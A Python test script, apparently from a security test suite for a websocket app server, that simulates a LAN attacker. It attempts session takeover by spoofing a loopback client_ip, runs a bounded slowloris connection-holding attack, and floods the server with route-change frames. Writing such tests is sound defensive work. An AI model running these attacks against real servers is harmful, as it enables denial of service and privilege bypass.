"""A phone on the table's Wi-Fi that tries to take the server over; run inside the
test's network namespace (``ip netns exec``), so the server sees another address.
Prints one JSON line of what it saw. Bounded in count and time; only the given server.

    python lan_attacker.py take-over URL
    python lan_attacker.py slowloris URL COUNT SECONDS
    python lan_attacker.py flood URL COUNT [JOIN_PATH]
"""

from __future__ import annotations

import json
import socket
import sys
import time
from urllib.parse import urlsplit

import msgpack
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

REGISTER, PATCH, EVENT, PROPS, INVOKE = 1, 2, 3, 4, 5
MARKERS = {"lobby": b"lobby-text", "history": b"history-search"}


def frame(action: int, body: object) -> bytes:
    return b"\x00" + msgpack.packb([action, body])


def register(route: str, **page: object) -> bytes:
    fields = {"route": route, "web": True, "platform": "android", "width": 360.0,
              "height": 740.0, **page}
    return frame(REGISTER, {"session_id": "", "page_name": "", "page": fields})


def session(url: str, *frames: bytes, seconds: float = 20, to_the_end: bool = False,
            said: str | None = None) -> dict[str, object]:
    """Sends the frames in one write, then reads what comes back until a screen is
    drawn (unless ``to_the_end``), the socket is closed, or ``seconds`` pass."""
    seen: dict[str, object] = {"screen": None, "closed": None, "patches": 0}
    with connect(url.replace("http://", "ws://") + "/ws", origin=url,
                 open_timeout=seconds, max_size=None) as ws:
        ws.socket.sendall(b"".join(_ws_frame(f) for f in frames))  # one TCP write
        if said:
            print(said, flush=True)
        deadline = time.monotonic() + seconds
        try:
            while time.monotonic() < deadline:
                data = ws.recv(timeout=max(0.1, deadline - time.monotonic()))
                action, body = msgpack.unpackb(data[1:], strict_map_key=False)
                if action == INVOKE:
                    ws.send(frame(INVOKE, {"control_id": body["control_id"],
                                           "call_id": body["call_id"], "result": None,
                                           "error": "unsupported"}))
                seen["patches"] = int(seen["patches"]) + (action == PATCH)  # type: ignore[call-overload]
                for name, marker in MARKERS.items():
                    if action == PATCH and marker in data:
                        seen["screen"] = name
                        if not to_the_end:
                            return seen
        except ConnectionClosed as closed:
            seen["closed"] = closed.rcvd.code if closed.rcvd else None
        except TimeoutError:
            pass
    return seen


def _ws_frame(payload: bytes) -> bytes:
    """A masked binary websocket frame (a client's), so frames go in one write."""
    import os
    mask = os.urandom(4)
    n = len(payload)
    head = bytes([0x82])
    if n < 126:
        head += bytes([0x80 | n])
    elif n < 65536:
        head += bytes([0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head += bytes([0x80 | 127]) + n.to_bytes(8, "big")
    return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


def take_over(url: str) -> dict[str, object]:
    claim = frame(PROPS, {"id": 1, "props": {"client_ip": "127.0.0.1"}})
    return {
        "two_frames": session(url, register("/history"), claim),
        "register_claims_loopback": session(url, register("/history", client_ip="127.0.0.1")),
        "not_web": session(url, register("/history", web=False)),
        "plain": session(url, register("/history")),
    }


def slowloris(url: str, count: int, seconds: float) -> dict[str, object]:
    parts = urlsplit(url)
    held: list[socket.socket] = []
    refused = 0
    for _ in range(count):
        try:
            s = socket.create_connection((parts.hostname, parts.port), timeout=5)
            s.sendall(b"GET / HTTP/1.1\r\nHost: " + parts.netloc.encode() + b"\r\n")
            held.append(s)
        except OSError:
            refused += 1
    print(json.dumps({"opened": len(held), "refused": refused}), flush=True)
    end = time.monotonic() + seconds
    while time.monotonic() < end:  # a header line now and then, never the blank line
        for s in held:
            try:
                s.sendall(b"X-a: b\r\n")
            except OSError:
                pass
        time.sleep(1)
    alive = 0
    for s in held:
        try:
            s.setblocking(False)
            alive += s.recv(1) != b""
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        s.close()
    return {"opened": len(held), "refused": refused, "still_open": alive}


def flood(url: str, count: int, join: str = "/table/x") -> dict[str, object]:
    """``count`` route changes in one write, between the table view (``join``: the
    QR code's path, for a follower with the token) and the lobby."""
    route = [frame(EVENT, {"target": 1, "name": "route_change",
                           "data": {"route": join if n % 2 else "/"}}) for n in range(count)]
    return session(url, register(join), *route, seconds=60, to_the_end=True, said="sent")


if __name__ == "__main__":
    mode, target = sys.argv[1], sys.argv[2]
    if mode == "take-over":
        result = take_over(target)
    elif mode == "slowloris":
        result = slowloris(target, int(sys.argv[3]), float(sys.argv[4]))
    else:
        result = flood(target, int(sys.argv[3]), *sys.argv[4:5])
    print(json.dumps(result), flush=True)
